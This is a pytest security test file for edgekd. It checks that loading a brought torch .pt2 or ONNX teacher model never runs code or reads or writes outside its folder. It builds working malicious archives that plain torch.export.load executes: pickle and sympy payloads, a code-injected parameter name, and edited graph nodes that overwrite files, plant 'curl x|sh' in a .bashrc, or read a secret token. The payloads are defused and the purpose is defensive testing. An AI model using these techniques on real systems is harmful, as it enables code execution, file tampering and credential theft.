"""Loading a brought model never runs code from it or reads beside it (issue 10).

Each hostile archive is a real ``torch.export.save`` of a tiny module with one entry rewritten
so that ``torch.export.load`` would run a payload that creates a marker file; plain torch is
first shown to run it, then edgekd must refuse (or defuse) it untouched.
"""
from __future__ import annotations

import io
import json
import os
import pathlib
import pickle
import shutil
import zipfile
from pathlib import Path

import pytest
import torch
from conftest import assert_user_error, run_cli_here
from torch import nn

from edgekd.train.modelfile import load_program, read_spec
from edgekd.train.distill.teachers import load_teacher
from edgekd.core.errors import ModelError
from edgekd.exporters.source import load_source


class Touch:
    """Unpickling this creates ``marker``: the stand-in for an ``os.system`` payload."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return pathlib.Path.touch, (pathlib.Path(self.marker),)


def _saved(path: Path) -> Path:
    """A real .pt2 of a plain module (torch.export.save's defaults)."""
    torch.manual_seed(0)
    torch.export.save(torch.export.export(nn.Linear(4, 3).eval(), (torch.zeros(1, 4),)), str(path))
    return path


def _torch_pickle(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _pickled_weight(name: str, data: bytes, marker: Path) -> bytes:
    if name.endswith("_weights_config.json"):
        config = json.loads(data)
        config["config"]["weight"]["use_pickle"] = True
        return json.dumps(config).encode()
    return _torch_pickle(Touch(marker)) if name.endswith("data/weights/weight_0") else data


def _pickled_constant(name: str, data: bytes, marker: Path) -> bytes:
    if name.endswith("_constants_config.json"):
        meta = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
        return json.dumps({"config": {"hidden": meta}}).encode()
    return data


def _pickled_sample_inputs(name: str, data: bytes, marker: Path) -> bytes:
    # not loadable with weights_only=True, so torch retries with weights_only=False
    return _torch_pickle(Touch(marker)) if "data/sample_inputs/" in name else data


def _sympy_expression(name: str, data: bytes, marker: Path) -> bytes:
    if not name.endswith("models/model.json"):
        return data
    code = {"as_expr": {"expr_str": f"__import__('pathlib').Path({str(marker)!r}).touch()", "hint": {"as_int": 4}}}
    return data.decode().replace('{"as_int": 4}', json.dumps(code), 1).encode()


PAYLOADS = {"weight": _pickled_weight, "constant": _pickled_constant,
            "sample_inputs": _pickled_sample_inputs, "sympy": _sympy_expression}


def _hostile(tmp_path: Path, kind: str) -> tuple[Path, Path]:
    """(the hostile .pt2, the marker its payload would create)."""
    marker = tmp_path / "MARKER"
    source = zipfile.ZipFile(_saved(tmp_path / "plain.pt2"))
    path = tmp_path / "evil.pt2"
    with source, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
        for name in source.namelist():
            target.writestr(name, PAYLOADS[kind](name, source.read(name), marker))
        if kind == "constant":
            target.writestr("plain/data/constants/opaque_obj_0", pickle.dumps(Touch(marker)))
    return path, marker


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_plain_torch_export_load_runs_the_payload(tmp_path, kind):
    """Sanity: each payload is real, torch.export.load runs it (here: the payload only touches a file)."""
    path, marker = _hostile(tmp_path, kind)
    try:
        torch.export.load(str(path))
    except Exception:           # some payloads run before a later step of the load fails
        pass
    assert marker.exists()


@pytest.mark.parametrize("kind,fragment", [
    ("weight", "holds an entry that would be unpickled (data/weights/weight_0)"),
    ("constant", "holds an entry that would be unpickled (data/constants/opaque_obj_0)"),
    ("sympy", "holds a shape expression that sympy would evaluate as code"),
])
def test_load_program_refuses_what_torch_would_run(tmp_path, kind, fragment):
    path, marker = _hostile(tmp_path, kind)
    with pytest.raises(ModelError) as info:
        load_program(path, ".pt2 teacher")
    assert fragment in info.value.message and "edgekd never unpickles" in info.value.message
    assert not marker.exists()


def test_sample_inputs_are_never_unpickled(tmp_path):
    """torch.export.save always pickles the sample inputs: they are dropped, the program still runs."""
    path, marker = _hostile(tmp_path, "sample_inputs")
    program = load_program(path, ".pt2 teacher")
    reference = load_program(tmp_path / "plain.pt2", ".pt2 teacher")
    x = torch.randn(1, 4)
    assert torch.equal(program.module()(x), reference.module()(x))
    assert program.example_inputs is None and not marker.exists()


@pytest.mark.parametrize("entry,fragment", [
    ("data/aotinductor/model/model.so", "compiled code that torch would load"),
    ("data/weights/model.pt", "an entry that would be unpickled"),
    ("serialized_state_dict.pt", "an entry that would be unpickled"),
])
def test_entries_a_plain_save_never_writes_are_refused(tmp_path, entry, fragment):
    """AOTInductor libraries (dlopen-ed by torch) and legacy pickled state dicts."""
    path = _saved(tmp_path / "plain.pt2")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"plain/{entry}", b"\x7fELF or a pickle")
    with pytest.raises(ModelError) as info:
        load_program(path, ".pt2 teacher")
    assert f"{fragment} (plain/{entry})" in info.value.message


def test_compressed_entries_are_refused(tmp_path):
    """torch.export.save stores entries; a deflated one could expand to any size in memory."""
    source = zipfile.ZipFile(_saved(tmp_path / "plain.pt2"))
    path = tmp_path / "deflated.pt2"
    with source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    with pytest.raises(ModelError, match="holds a compressed entry"):
        load_program(path, ".pt2 teacher")


def test_distill_teacher_from_a_hostile_pt2(tmp_path):
    path, marker = _hostile(tmp_path, "weight")
    before = sorted(os.listdir(tmp_path))
    result = run_cli_here("distill", "--teacher-from", path, "--out", tmp_path / "run", cwd=tmp_path)
    assert_user_error(result, "would be unpickled")
    assert not marker.exists() and sorted(os.listdir(tmp_path)) == before


def test_export_of_a_run_whose_teacher_is_a_hostile_pt2(tmp_path, demo_run):
    path, marker = _hostile(tmp_path, "weight")
    run = shutil.copytree(demo_run, tmp_path / "run")
    spec = json.loads((run / "teacher" / "model.json").read_text())
    shutil.rmtree(run / "teacher")
    (run / "teacher").mkdir()
    shutil.copyfile(path, run / "teacher" / "model.pt2")
    (run / "teacher" / "model.json").write_text(json.dumps({**spec, "format": "pt2"}))
    before = sorted(os.listdir(run))
    result = run_cli_here("export", run, cwd=tmp_path)
    assert_user_error(result, "would be unpickled")
    assert not marker.exists() and sorted(os.listdir(run)) == before


# --- ONNX: one self-contained file --------------------------------------------------------------

def _onnx_with_external_weight(path: Path, location: str) -> Path:
    """A MatMul classifier whose weight lies in ``location`` (relative to the model's folder)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = np.ones((64, 10), np.float32)
    (path.parent / location).parent.mkdir(parents=True, exist_ok=True)
    weight.tofile(path.parent / location)
    tensor = numpy_helper.from_array(weight, "W")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(weight.nbytes))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph([helper.make_node("Reshape", ["x", "shape"], ["flat"]),
                               helper.make_node("MatMul", ["flat", "W"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1, 8, 8])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 10])],
                              [tensor, numpy_helper.from_array(np.array([1, 64], np.int64), "shape")])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))
    return path


@pytest.mark.parametrize("location", ["weights.bin", "../outside/weights.bin"], ids=["beside", "outside"])
def test_brought_onnx_teacher_with_external_data_is_refused(tmp_path, location):
    """Beside the model it would be lost (only the .onnx is copied into the run); outside its
    folder onnxruntime refuses it already, with an error that does not say why edgekd cannot use it."""
    path = _onnx_with_external_weight(tmp_path / "teacher" / "model.onnx", location)
    with pytest.raises(ModelError) as info:
        load_teacher(str(path))
    assert f"keeps tensors in separate data files ({location})" in info.value.message


def test_run_whose_onnx_teacher_has_external_data_is_refused(tmp_path, demo_run):
    run = shutil.copytree(demo_run, tmp_path / "run")
    spec = json.loads((run / "teacher" / "model.json").read_text())
    shutil.rmtree(run / "teacher")
    _onnx_with_external_weight(run / "teacher" / "model.onnx", "weights.bin")
    (run / "teacher" / "model.json").write_text(json.dumps({**spec, "format": "onnx"}))
    with pytest.raises(ModelError) as info:
        load_source(run, "teacher")
    assert "keeps tensors in separate data files (weights.bin)" in info.value.message


@pytest.mark.parametrize("text", ["[" * 100_000, '{"arch": ' + "1" * 5000 + "}"], ids=["deep", "long-integer"])
def test_model_json_that_json_cannot_parse_is_a_model_error(tmp_path, text):
    """json.loads raises RecursionError and a plain ValueError here, not JSONDecodeError."""
    (tmp_path / "model.json").write_text(text)
    with pytest.raises(ModelError, match="is not valid JSON"):
        read_spec(tmp_path)


@pytest.mark.parametrize("text", ["9**9**9**9", "-" * 200_000 + "1", "10" * 20 + "+s0"])
def test_shape_expressions_that_would_hang_sympify_are_refused(text):
    from edgekd.train.modelfile import _harmless_expression

    assert not _harmless_expression(text)
    assert _harmless_expression("s0*2 + 1")


def test_a_call_target_torch_cannot_even_look_up_is_not_an_operator():
    from edgekd.train.pt2_graph import resolve

    assert resolve("torch.classes.foo.bar") is None           # getattr raises RuntimeError there
    assert resolve("torch.ops.aten.relu.default") is torch.ops.aten.relu.default


# --- what the program's graph may call (issue 25) ----------------------------------------------
# A real torch.export.save of Flatten + Linear(64, 10) (the digits' 1×8×8 input, any batch) whose
# graph gets nodes added and its logits wired through them, as an attacker would edit the JSON.

class LinearTeacher(nn.Module):
    """Linear(64, 10) on the digits, with a raw-bytes buffer an attacker can copy anywhere."""

    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(64, 10)
        self.register_buffer("payload", torch.frombuffer(bytearray(b"curl x|sh\n"), dtype=torch.uint8).clone())

    def forward(self, x):
        return self.linear(x.flatten(1))


def _arg(value) -> dict:
    if isinstance(value, bool):
        return {"as_bool": value}
    if isinstance(value, int):
        return {"as_int": value}
    if isinstance(value, float):
        return {"as_float": value}
    if isinstance(value, list):
        return {"as_ints": value}
    return {"as_string": value} if isinstance(value, str) else {"as_tensor": {"name": value.name}}


class T:
    """A tensor named in the graph, as a node argument."""

    def __init__(self, name: str):
        self.name = name


def _node(target: str, out: str | None, dtype: int | None = None, **inputs) -> dict:
    """A graph node calling ``torch.ops.TARGET``; ``dtype`` is passed as the keyword torch's schema has."""
    named = [{"name": key, "arg": _arg(value), "kind": 1} for key, value in inputs.items()]
    if dtype is not None:
        named.append({"name": "dtype", "arg": {"as_scalar_type": dtype}, "kind": 2})
    outputs = [{"as_tensor": {"name": out}}] if out else []
    return {"target": f"torch.ops.{target}", "inputs": named, "outputs": outputs, "metadata": {}, "name": out or "n"}


def _meta(dtype: int, size: int) -> dict:
    return {"dtype": dtype, "sizes": [{"as_int": size}], "requires_grad": False, "device": {"type": "cpu", "index": None},
            "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}


BYTE, FLOAT = 1, 7      # torch's serialized ScalarType codes


def _mapped(path: Path, shared: bool, then: list[dict], last: str) -> list[dict]:
    """``aten.from_file`` maps the first 10 bytes of ``path``; ``then`` works on it; its result,
    as floats, is added to the logits (so the program cannot be run without running them)."""
    return [_node("aten.from_file.default", "mapped", BYTE, filename=str(path), shared=shared, size=10), *then,
            _node("aten._to_copy.default", "as_float", FLOAT, self=T(last)),
            _node("aten.add.Tensor", "evil", self=T("linear"), other=T("as_float"))]


def _program(path: Path, nodes: list[dict], module: nn.Module | None = None) -> Path:
    """A .pt2 of ``module`` (the Linear teacher) with ``nodes`` appended to its graph; when the last
    node is named "evil", it becomes the program's output."""
    torch.manual_seed(0)
    example = (torch.zeros(2, 1, 8, 8),)
    program = torch.export.export((module or LinearTeacher()).eval(), example,
                                  dynamic_shapes=({0: torch.export.Dim("batch")},))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
        for name in source.namelist():
            data = source.read(name)
            if name.endswith("models/model.json"):
                data = json.dumps(_with_nodes(json.loads(data), nodes)).encode()
            target.writestr(name, data)
    return path


def _with_nodes(document: dict, nodes: list[dict]) -> dict:
    graph = document["graph_module"]["graph"]
    graph["nodes"] += nodes
    values = graph["tensor_values"]
    for node in nodes:
        for out in node["outputs"]:
            name = out["as_tensor"]["name"]
            dtype = next((a["arg"]["as_scalar_type"] for a in node["inputs"] if a["name"] == "dtype"), BYTE)
            values[name] = values["linear"] if name == "evil" else _meta(dtype, 10)
    if nodes and nodes[-1]["name"] == "evil":
        graph["outputs"] = [{"as_tensor": {"name": "evil"}}]
        document["graph_module"]["signature"]["output_specs"] = [{"user_output": {"arg": {"as_tensor": {"name": "evil"}}}}]
    return document


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder edgekd is never pointed at, with a file to overwrite, a shell rc file and a secret."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "notes.txt").write_bytes(b"the user's own notes, not edgekd's to touch\n")
    (folder / ".bashrc").write_bytes(b"export PATH=$HOME/bin:$PATH\nalias ll='ls -l'\n")
    (folder / "secret").write_bytes(b"TOKEN=s3cr3t-0123456789\n")
    return folder


def _reproduction(kind: str, outside: Path) -> list[dict]:
    """The issue's three: a write through a shared mapping, a buffer copied over a shell rc file, a read."""
    if kind == "write":
        return _mapped(outside / "notes.txt", True, [_node("aten.fill_.Scalar", "filled", self=T("mapped"), value=65)],
                       "filled")
    if kind == "rc":
        return _mapped(outside / ".bashrc", True, [_node("aten.copy_.default", "copied", self=T("mapped"),
                                                         src=T("b_payload"))], "copied")
    return _mapped(outside / "secret", False, [], "mapped")


def _files(folder: Path) -> dict:
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


REPRODUCTIONS = {"write": (b"AAAAAAAAAA", "notes.txt"), "rc": (b"curl x|sh\n", ".bashrc"), "read": (None, "secret")}


@pytest.mark.parametrize("kind", sorted(REPRODUCTIONS))
def test_plain_torch_runs_what_the_edited_graph_says(tmp_path, outside, kind):
    """Sanity: the crafted programs are real. torch.export.load and a call write through to the file
    outside (or read the secret into the logits)."""
    path = _program(tmp_path / "evil.pt2", _reproduction(kind, outside))
    written, name = REPRODUCTIONS[kind]
    before = (outside / name).read_bytes()
    logits = torch.export.load(str(path)).module()(torch.zeros(1, 1, 8, 8))
    if written:
        assert (outside / name).read_bytes() == written + before[10:]
    else:
        assert bytes(logits[0].round().to(torch.uint8).tolist()) == before[:10]     # zero input, so logits = bias + bytes
        assert (outside / name).read_bytes() == before


@pytest.mark.parametrize("kind", sorted(REPRODUCTIONS))
def test_a_program_that_reads_or_writes_files_is_refused_before_torch_runs_it(tmp_path, outside, kind):
    path = _program(tmp_path / "evil.pt2", _reproduction(kind, outside))
    before = _files(outside)
    with pytest.raises(ModelError) as info:
        load_teacher(str(path))
    assert "uses operator aten.from_file.default, which edgekd does not run" in info.value.message
    assert "\n" not in info.value.message and "ONNX" in info.value.hint
    assert _files(outside) == before


def _family(name: str, outside: Path) -> list[dict]:
    """One node (or two) of each kind of operator that reaches outside the tensors."""
    marker, logits = str(outside / "notes.txt"), T("linear")
    return {
        "save": [_node("aten.save.default", None, item=logits, filename=marker)],
        "debug-load": [_node("debugprims.load_tensor.default", "evil", FLOAT, name=marker)],
        "item": [_node("aten._local_scalar_dense.default", "scalar", self=logits)],
        "random": [_node("aten.rand_like.default", "evil", self=logits)],
        "seed": [_node("aten.manual_seed.default", None, seed=0)],
        "dropout-train": [_node("aten.dropout.default", "evil", self=logits, p=0.5, train=True)],
        "print": [_node("aten._print.default", None, s="pwned")],
        "warn": [_node("aten.warn.default", None, message="pwned")],
        "profiler": [_node("profiler._record_function_enter_new.default", "record", name="pwned")],
        "storage": [_node("aten.set_.source_Tensor", "swapped", self=T("x"), source=logits)],
        "assert": [_node("aten._assert_async.msg", None, self=logits, assert_msg="pwned")],
        "python": [{**_node("aten.relu.default", "evil", self=logits), "target": "builtins.exec"}],
        "write-input": [_node("aten.relu_.default", "evil", self=T("x"))],
        "write-weight": [_node("aten.add_.Tensor", "evil", self=T("p_linear_weight"), other=logits)],
        "write-buffer-view": [_node("aten.view.default", "seen", self=T("b_payload"), size=[10]),
                              _node("aten.mul_.Tensor", "evil", self=T("seen"), other=T("seen"))],
        **WRITES_THROUGH_AN_ALIAS,
    }[name]


def _added_into(name: str) -> dict:
    """``aten.add.out(x, x, out=name)``: the sum written into the tensor ``name``."""
    node = _node("aten.add.out", "doubled", self=T("x"), other=T("x"))
    node["inputs"].append({"name": "out", "arg": {"as_tensor": {"name": name}}, "kind": 2})
    return node


# writes to the batch or a weight through a result whose schema declares no alias (type_as hands back
# its input when the type matches; _unsafe_view is a view), or through an out= argument; each one's
# result stays unused, so the logits are the Linear's
WRITES_THROUGH_AN_ALIAS = {
    "write-input-type-as": [_node("aten.type_as.default", "same", self=T("x"), other=T("x")),
                            _node("aten.relu_.default", "zeroed", self=T("same"))],
    "write-weight-unsafe-view": [_node("aten._unsafe_view.default", "flat", self=T("p_linear_weight"), size=[640]),
                                 _node("aten.add_.Tensor", "doubled", self=T("flat"), other=T("flat"))],
    "write-input-out": [_added_into("x")],
    "write-out-fresh": [_node("aten.clone.default", "copy", self=T("x")), _added_into("copy")],
}


@pytest.mark.parametrize("name,fragment", [
    ("save", "uses operator aten.save.default,"),
    ("debug-load", "uses operator debugprims.load_tensor.default,"),
    ("item", "uses operator aten._local_scalar_dense.default,"),
    ("random", "uses operator aten.rand_like.default,"),
    ("seed", "uses operator aten.manual_seed.default,"),
    ("dropout-train", "uses operator aten.dropout.default with train not false"),
    ("print", "uses operator aten._print.default,"),
    ("warn", "uses operator aten.warn.default,"),
    ("profiler", "uses operator profiler._record_function_enter_new.default,"),
    ("storage", "uses operator aten.set_.source_Tensor,"),
    ("assert", "uses operator aten._assert_async.msg,"),
    ("python", "uses operator builtins.exec,"),
    ("write-input", "uses operator aten.relu_.default to write in place to a graph input"),
    ("write-weight", "uses operator aten.add_.Tensor to write in place to a graph input"),
    ("write-buffer-view", "uses operator aten.mul_.Tensor to write in place to a graph input"),
    ("write-input-type-as", "uses operator aten.relu_.default to write in place to a graph input"),
    ("write-weight-unsafe-view", "uses operator aten.add_.Tensor to write in place to a graph input"),
    ("write-input-out", "uses operator aten.add.out, which writes into an out= argument"),
    ("write-out-fresh", "uses operator aten.add.out, which writes into an out= argument"),
])
def test_each_family_of_operators_that_reaches_outside_is_refused(tmp_path, outside, name, fragment):
    path = _program(tmp_path / "evil.pt2", _family(name, outside))
    before = _files(outside)
    with pytest.raises(ModelError) as info:
        load_program(path, ".pt2 teacher")
    assert fragment in info.value.message and "edgekd does not run" in info.value.message
    assert _files(outside) == before


@pytest.mark.parametrize("name,changed", [("write-input-type-as", "input"), ("write-weight-unsafe-view", "weight"),
                                          ("write-input-out", "input")])
def test_plain_torch_lets_the_graph_overwrite_its_input_or_weights(tmp_path, outside, name, changed):
    """Sanity: these graphs are real attacks. A call changes the batch it is given (edgekd passes
    views of a whole split) or the weights of the loaded module."""
    module = torch.export.load(str(_program(tmp_path / "evil.pt2", _family(name, outside)))).module()
    x, weight = torch.randn(3, 1, 8, 8), module.linear.weight.detach().clone()
    before = x.clone()
    module(x)
    assert torch.equal(x, before) == (changed != "input")
    assert torch.equal(module.linear.weight, weight) == (changed != "weight")


class Counts(nn.Module):
    def __init__(self):
        super().__init__()
        self.norm = nn.BatchNorm1d(64)

    def forward(self, x):
        return self.norm(x.flatten(1))


class AddsToItsInput(nn.Module):
    def forward(self, x):
        x.add_(1)
        return x.flatten(1)[:, :10]


class Branches(nn.Module):
    def forward(self, x):
        return torch.cond(x.sum() > 0, lambda x: x.flatten(1)[:, :10] * 2, lambda x: x.flatten(1)[:, :10] - 1, (x,))


@pytest.mark.parametrize("module,functional,fragment", [
    (Counts().train(), False, "uses operator aten.batch_norm.default with training not false"),
    (Counts().train(), True, "has a 'buffer_mutation' output"),
    (AddsToItsInput(), False, "uses operator aten.add_.Tensor to write in place to a graph input"),
    (AddsToItsInput(), True, "has a 'user_input_mutation' output"),
    (Branches(), False, "uses operator higher_order.cond,"),
], ids=["buffer-mutation", "buffer-mutation-functional", "input-mutation", "input-mutation-functional",
        "nested-graph"])
def test_real_exports_that_change_their_state_or_nest_graphs_are_refused(tmp_path, module, functional, fragment):
    """As torch.export writes them: batch norm in training mode (it updates its running statistics),
    a forward that adds to its input (as exported: the operator; after run_decompositions: the
    signature's mutation output), and torch.cond (its branches are nested graphs)."""
    path = tmp_path / "program.pt2"
    program = torch.export.export(module, (torch.ones(2, 1, 8, 8),))
    torch.export.save(program.run_decompositions() if functional else program, str(path))
    with pytest.raises(ModelError) as info:
        load_program(path, ".pt2 teacher")
    assert fragment in info.value.message


def test_a_nested_graph_under_an_allowed_operator_is_refused(tmp_path, outside):
    """A graph argument hides nodes where only a higher-order operator would look: refused as such."""
    hidden = {"name": "body", "graph": {"inputs": [], "outputs": [],
                                        "nodes": _reproduction("write", outside)}}
    node = _node("aten.relu.default", "evil", self=T("linear"))
    node["inputs"].append({"name": "body", "arg": {"as_graph": hidden}, "kind": 2})
    with pytest.raises(ModelError, match="holds a nested graph"):
        load_program(_program(tmp_path / "evil.pt2", [node]), ".pt2 teacher")


def _named(path: Path, marker: Path) -> Path:
    """A parameter whose name is Python code: torch writes it into the forward it generates and execs."""
    code = f'w"+str(getattr(getattr(__import__("pathlib"),"Path")("{marker}"),"touch")())+"'
    with zipfile.ZipFile(_saved(path.parent / "plain.pt2")) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            document = json.loads(source.read(name)) if name.endswith(".json") else None
            if name.endswith("models/model.json"):
                document["graph_module"]["signature"]["input_specs"][0]["parameter"]["parameter_name"] = code
            elif name.endswith("_weights_config.json"):
                document["config"][code] = document["config"].pop("weight")
            target.writestr(name, source.read(name) if document is None else json.dumps(document))
    return path


def test_a_name_that_is_code_is_refused(tmp_path):
    marker = tmp_path / "MARKER"
    assert "." not in str(marker)     # torch splits a parameter's name at dots
    path = _named(tmp_path / "named.pt2", marker)
    with pytest.raises(Exception):    # sanity: plain torch runs the name, then fails on the attribute
        torch.export.load(str(path)).module()(torch.zeros(1, 4))
    assert marker.exists()
    marker.unlink()
    with pytest.raises(ModelError, match="which is not a plain Python name"):
        load_program(path, ".pt2 teacher")
    assert not marker.exists()


@pytest.mark.slow
def test_real_teachers_still_load(tmp_path):
    """A user's module as torch.export writes it (in-place ReLU, +=, a tensor made in forward, batch
    norm and dropout in eval mode, squeeze-excitation, hard-swish, cat, views; any batch) runs as before."""
    from edgekd.train.models import build

    class Block(nn.Module):
        def __init__(self):
            super().__init__()
            self.conv, self.norm, self.act = nn.Conv2d(1, 8, 3, padding=1), nn.BatchNorm2d(8), nn.ReLU(inplace=True)
            self.squeeze, self.excite = nn.Conv2d(8, 4, 1), nn.Conv2d(4, 8, 1)
            self.head, self.drop = nn.Linear(16 * 64, 10), nn.Dropout(0.2)

        def forward(self, x):
            y = nn.functional.hardswish(self.act(self.norm(self.conv(x))))
            y = y * torch.sigmoid(self.excite(torch.relu(self.squeeze(y.mean((2, 3), keepdim=True)))))
            y += 1
            y = torch.cat([y, y * 2], 1).reshape(x.shape[0], -1)
            return self.drop(self.head(y)) + torch.tensor([0.5])

    x = torch.randn(3, 1, 8, 8)
    for module in (Block(), build("mobilenetv3_small_100", (1, 8, 8), 10), LinearTeacher()):
        program = torch.export.export(module.eval(), (x,), dynamic_shapes=({0: torch.export.Dim("batch")},))
        for version in (program, program.run_decompositions()):
            torch.export.save(version, str(tmp_path / "teacher.pt2"))
            loaded = load_program(tmp_path / "teacher.pt2", ".pt2 teacher")
            assert torch.allclose(loaded.module()(x), module(x), atol=1e-5)


class Casts(nn.Module):
    """A forward that casts its input: torch.export checks each cast's input with _assert_tensor_metadata."""

    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(64, 10)

    def forward(self, x):
        return self.linear(x.float().flatten(1)) + self.linear(x.to(torch.float32).flatten(1))


def test_a_teacher_that_casts_its_input_loads(tmp_path):
    x, module = torch.randn(4, 1, 8, 8), Casts().eval()
    program = torch.export.export(module, (x,), dynamic_shapes=({0: torch.export.Dim("batch")},))
    for version in (program, program.run_decompositions()):
        assert "aten._assert_tensor_metadata.default" in {str(node.target) for node in version.graph.nodes}
        torch.export.save(version, str(tmp_path / "teacher.pt2"))
        loaded = load_program(tmp_path / "teacher.pt2", ".pt2 teacher")
        assert torch.allclose(loaded.module()(x), module(x))


def test_distill_teacher_from_a_pt2_that_writes_outside(tmp_path, outside):
    path = _program(tmp_path / "evil.pt2", _reproduction("write", outside))
    before, listed = _files(outside), sorted(os.listdir(tmp_path))
    result = run_cli_here("distill", "--teacher-from", path, "--out", tmp_path / "run", cwd=tmp_path)
    assert_user_error(result, "uses operator aten.from_file.default, which edgekd does not run")
    assert _files(outside) == before and sorted(os.listdir(tmp_path)) == listed


def test_export_of_a_run_whose_pt2_teacher_writes_outside(tmp_path, outside, demo_run):
    run = shutil.copytree(demo_run, tmp_path / "run")
    spec = json.loads((run / "teacher" / "model.json").read_text())
    shutil.rmtree(run / "teacher")
    (run / "teacher").mkdir()
    _program(run / "teacher" / "model.pt2", _reproduction("rc", outside))
    (run / "teacher" / "model.json").write_text(json.dumps({**spec, "format": "pt2"}))
    before, listed = _files(outside), sorted(os.listdir(run))
    result = run_cli_here("export", run, cwd=tmp_path)
    assert_user_error(result, "uses operator aten.from_file.default, which edgekd does not run")
    assert _files(outside) == before and sorted(os.listdir(run)) == listed
